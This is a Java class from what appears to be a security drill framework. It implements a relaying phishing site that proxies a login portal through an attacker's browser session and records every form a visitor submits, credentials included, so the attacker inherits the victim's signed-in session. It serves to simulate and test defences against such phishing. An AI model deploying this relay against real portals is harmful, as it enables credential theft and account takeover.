package ecluse.drills.phish;

import com.sun.net.httpserver.HttpExchange;
import com.sun.net.httpserver.HttpServer;
import ecluse.drills.attack.Attacker;
import ecluse.drills.attack.Attacker.Request;
import ecluse.drills.http.Browser;
import ecluse.drills.http.Fields;
import ecluse.drills.http.Page;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;

/**
 * The thief's site, which looks like the portal because it is the portal: each page comes from there, each answer goes there, in
 * the thief's own browser. Once the visitor has signed in, so has he. What visitors typed is kept.
 */
final class RelayingSite implements AutoCloseable {
    private static final int NO_ANSWER = 502;

    private final HttpServer server;
    private final ExecutorService threads = Executors.newVirtualThreadPerTaskExecutor();
    private final Attacker attacker;
    private final Browser thief;
    private final List<Fields> typed = new ArrayList<>();

    private RelayingSite(HttpServer server, Attacker attacker, Browser thief) {
        this.server = server;
        this.attacker = attacker;
        this.thief = thief;
    }

    static RelayingSite start(Attacker attacker, Browser thief) throws IOException {
        var server = HttpServer.create(new InetSocketAddress(InetAddress.getByName("127.0.0.1"), 0), 0);
        var site = new RelayingSite(server, attacker, thief);
        server.setExecutor(site.threads);
        server.createContext("/", site::relay);
        server.start();
        return site;
    }

    URI address() {
        return URI.create("http://localhost:" + server.getAddress().getPort());
    }

    /** All forms that came by, in their order. */
    synchronized List<Fields> typed() {
        return List.copyOf(typed);
    }

    private void relay(HttpExchange exchange) throws IOException {
        try (exchange) {
            var page = attacker.send(request(exchange));
            if (page.isPresent()) {
                hand(exchange, page.get());
            } else {
                exchange.sendResponseHeaders(NO_ANSWER, -1);
            }
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
        }
    }

    private Request request(HttpExchange exchange) throws IOException {
        var path = exchange.getRequestURI().toString();
        if (exchange.getRequestMethod().equals("GET")) {
            return () -> thief.get(path);
        }
        var fields = Fields.read(new String(exchange.getRequestBody().readAllBytes(), StandardCharsets.UTF_8));
        synchronized (this) {
            typed.add(fields);
        }
        return () -> thief.post(path, fields);
    }

    private static void hand(HttpExchange exchange, Page page) throws IOException {
        var headers = exchange.getResponseHeaders();
        page.header("content-type").ifPresent(type -> headers.set("Content-Type", type));
        page.location().ifPresent(target -> headers.set("Location", target));
        var bytes = page.body().getBytes(StandardCharsets.UTF_8);
        exchange.sendResponseHeaders(page.status(), bytes.length == 0 ? -1 : bytes.length);
        exchange.getResponseBody().write(bytes);
    }

    @Override
    public void close() {
        server.stop(0);
        threads.close();
    }
}
